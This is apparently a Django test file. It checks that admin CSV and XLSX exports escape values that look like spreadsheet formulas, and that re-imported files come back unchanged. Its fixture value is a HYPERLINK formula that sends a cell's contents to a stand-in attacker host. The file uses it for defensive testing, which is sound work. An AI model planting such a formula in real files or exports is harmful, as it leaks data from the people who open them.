"""Admin exports write text that starts like a formula as text, like the app's exports."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheet import safe_text
from factories import CadreFactory, ContactFactory, PartnerFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


def admin_export(client, url_name: str, fmt: str) -> bytes:
    """Fill the admin's export form as rendered, choosing the format by its label."""
    page = client.get(reverse(url_name))
    form = page.context["form"]
    data = {}
    for name in form.fields:
        value = form[name].value()
        if value not in (None, False):
            data[name] = value
    data["format"] = next(v for v, label in form.fields["format"].choices if label == fmt)
    response = client.post(reverse(url_name), data)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("url_name", "make"),
    [
        ("admin:partners_partner_export", lambda: PartnerFactory(name=EVIL)),
        ("admin:partners_contact_export", lambda: ContactFactory(name=EVIL)),
        ("admin:programs_cadre_export", lambda: CadreFactory(full_name=EVIL)),
    ],
)
def test_it_exports_a_formula_as_text_in_csv_and_xlsx(client, admin, url_name, make):
    # An admin exports partners (contacts, cadres) where someone named one "=HYPERLINK(…)".
    make()
    client.force_login(admin)
    assert safe_text(EVIL) in csv_cells(admin_export(client, url_name, "csv"))
    assert EVIL not in csv_cells(admin_export(client, url_name, "csv"))
    cells = xlsx_cells(admin_export(client, url_name, "xlsx"))
    assert [c.value for c in cells if "HYPERLINK" in str(c.value)] == [safe_text(EVIL)]
    assert not [c for c in cells if c.data_type == "f"]  # no live formula anywhere


def test_an_exported_file_imports_as_it_was():
    # An admin exports partners and imports the file again: the escape comes off.
    import tablib

    from partners.models import Partner
    from partners.resources import PartnerResource

    PartnerFactory(name="-Mitra Minus", sector="ngo")
    exported = PartnerResource().export()
    Partner.objects.all().delete()
    result = PartnerResource().import_data(tablib.Dataset().load(exported.csv, "csv"))
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    assert Partner.objects.get().name == "-Mitra Minus"
